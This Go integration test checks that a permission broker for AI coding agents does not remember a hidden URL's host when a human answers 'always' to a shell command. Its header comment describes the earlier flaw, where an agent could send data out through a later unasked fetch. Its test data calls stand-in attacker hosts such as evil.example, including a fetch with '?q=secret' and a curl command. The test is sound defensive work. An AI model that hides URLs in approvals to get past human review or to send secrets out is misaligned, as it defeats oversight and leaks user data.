//go:build linux

package integration

import (
	"fmt"
	"testing"
)

// TestAlwaysOnACommandRemembersNoURLItCarries: an agent's shell call whose
// input also names a URL the human is not shown as what it asks about
// (claude-agent-acp's Bash with a `url` beside `command`) is answered
// "always" for the command; the broker used to remember the URL's host (as
// it did for Codex's network approvals), so a later fetch there, carrying
// what the agent wants out in its query, was allowed without anyone asked.
// No request that names both a command and a URL remembers either, whichever
// "always" option is chosen; the answer itself still applies once.
func TestAlwaysOnACommandRemembersNoURLItCarries(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{})
	cases := []struct {
		name, toolCall, options, chosen string
	}{
		{"claude_bash_with_a_url", `{"toolCallId":"toolu_u1","kind":"execute","title":"npm test","rawInput":{"command":"npm test","url":"https://evil.example/x"}}`, claudeNewOptions, "allow-with-updates"},
		{"claude_older_always", `{"toolCallId":"toolu_u2","kind":"execute","title":"go vet ./...","rawInput":{"command":"go vet ./...","url":"https://evil2.example/"}}`, claudeOptions, "allow_always"},
		{"gemini_for_good", `{"toolCallId":"run_shell_command-u3","kind":"execute","title":"make docs","status":"pending","rawInput":{"command":"make docs","url":"https://evil3.example/"}}`, geminiSaveOptions, "proceed_always_and_save"},
		{"codex_for_the_session", codexNetwork("u4", "curl https://evil4.example", "evil4.example"), codexNetworkOptions, "allow_for_session"},
		{"codex_host_amendment", `{"toolCallId":"call_u5","kind":"execute","status":"pending","title":"make lint","rawInput":{"command":"make lint","cwd":"$CWD","url":"https://evil5.example"}}`, codexNetworkOptions, "apply_network_policy_amendment:0"},
	}
	for i, c := range cases {
		if !d.step(t, c.name, func() {
			id := fmt.Sprintf(`"u%d"`, i)
			d.asked(permission(id, c.toolCall, c.options), answer(id, c.chosen))
		}) {
			return
		}
	}
	// Every host named is still asked about, and so is every command.
	hosts := []string{"evil.example", "evil2.example", "evil3.example", "evil4.example", "evil5.example"}
	for i, h := range hosts {
		id := fmt.Sprintf(`"f%d"`, i)
		fetch := fmt.Sprintf(`{"toolCallId":"toolu_f%d","kind":"fetch","title":"Fetch https://%s/?q=secret","rawInput":{"url":"https://%s/?q=secret","prompt":"x"}}`, i, h, h)
		if !d.step(t, "fetch_"+h, func() { d.asked(permission(id, fetch, claudeOptions), answer(id, "reject")) }) {
			return
		}
	}
	for i, cmd := range []string{"npm test", "go vet ./...", "make docs", "make lint"} {
		id := fmt.Sprintf(`"c%d"`, i)
		if !d.step(t, "command_"+cmd, func() {
			d.asked(permission(id, execCall(fmt.Sprintf("toolu_c%d", i), cmd), claudeOptions), answer(id, "reject"))
		}) {
			return
		}
	}
	d.finish()
	if got := rememberedEntries(t, d.state); len(got) != 0 {
		t.Errorf("remembered %v, want nothing", got)
	}
}
